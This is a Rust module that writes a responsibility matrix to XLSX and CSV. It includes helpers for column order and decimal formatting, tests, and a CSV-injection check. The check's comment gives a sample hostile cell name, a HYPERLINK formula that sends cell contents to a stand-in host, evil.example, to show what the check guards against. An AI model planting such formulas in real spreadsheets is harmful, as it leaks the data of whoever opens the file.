//! Spreadsheets: the XLSX workbook and the CSV file.
//!
//! Both start from the same [`Model`]; what they share (which holders get a column,
//! which letters a holder has on a task, which cells a spreadsheet could mistake for a
//! formula) lives here so the two files never disagree.

mod csv;
mod xlsx;

pub(crate) use self::csv::{contributions_csv, csv};
pub(crate) use self::xlsx::xlsx;

use crate::model::{Holder, HolderKind, Letter, Model, TaskRow, holder};
use std::collections::HashSet;

/// Every holder that has a letter on some task, once each.
///
/// The order follows the document: its people first (they do the work, and are what
/// a reader looks for), then parties, then groups, each in the order the document
/// defines them. Ids the document does not define (finding D001) come last, in the
/// order they first appear, so nothing a task names is left out of the matrix.
pub(crate) fn holder_columns(m: &Model) -> Vec<Holder> {
    let used: HashSet<&str> = m
        .tasks
        .iter()
        .flat_map(|t| Letter::ALL.into_iter().flat_map(move |l| t.holders(l)))
        .map(|h| h.id.as_str())
        .collect();
    let mut seen: HashSet<String> = HashSet::new();
    let mut out = Vec::new();
    let defined = m
        .doc
        .people
        .iter()
        .map(|p| p.id.as_str())
        .chain(m.doc.parties.iter().map(|p| p.id.as_str()))
        .chain(m.doc.groups.iter().map(|g| g.id.as_str()));
    for id in defined {
        // An id defined twice (finding D002) still gets one column.
        if used.contains(id) && seen.insert(id.to_owned()) {
            out.push(holder(m.doc, id));
        }
    }
    for t in &m.tasks {
        for l in Letter::ALL {
            for h in t.holders(l) {
                if h.kind == HolderKind::Unknown && seen.insert(h.id.clone()) {
                    out.push(h.clone());
                }
            }
        }
    }
    out
}

/// The letters `id` holds on a task, in the order R, A, C, I, B ("RA", "CB").
pub(crate) fn letters(task: &TaskRow, id: &str) -> Vec<Letter> {
    Letter::ALL
        .into_iter()
        .filter(|l| task.holders(*l).iter().any(|h| h.id == id))
        .collect()
}

/// Whether a spreadsheet program could take this text for a formula.
///
/// OWASP's advice on CSV injection names the characters a cell must not start with:
/// `=`, `+`, `-` and `@`, and tab and carriage return (which some programs skip before
/// looking for those). Names in a division are typed by many people and end up in
/// spreadsheets that coordinators open without a second thought; a name such as
/// `=HYPERLINK("http://evil.example/?"&A1;"klik")` must show as text, never run.
pub(crate) fn looks_like_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A number without trailing zeros, at most two decimals, with the decimal separator
/// given (`2,5` for Dutch spreadsheets, `2.5` otherwise).
pub(crate) fn decimal(v: f64, separator: char) -> String {
    let s = format!("{v:.2}");
    let s = s.trim_end_matches('0').trim_end_matches('.');
    let s = if s == "-0" { "0" } else { s };
    s.replace('.', &separator.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decimals_drop_trailing_zeros() {
        assert_eq!(decimal(2.5, ','), "2,5");
        assert_eq!(decimal(3.0, ','), "3");
        assert_eq!(decimal(0.25, '.'), "0.25");
        assert_eq!(decimal(1.0 / 3.0, '.'), "0.33");
        assert_eq!(decimal(0.0, ','), "0");
    }

    #[test]
    fn formula_starts_are_recognised() {
        for s in ["=1+2", "+31 6", "-x", "@SUM(A1)", "\tx", "\rx"] {
            assert!(looks_like_formula(s), "{s:?}");
        }
        for s in ["Jan", "", " =1", "1-2", "a=b"] {
            assert!(!looks_like_formula(s), "{s:?}");
        }
    }
}
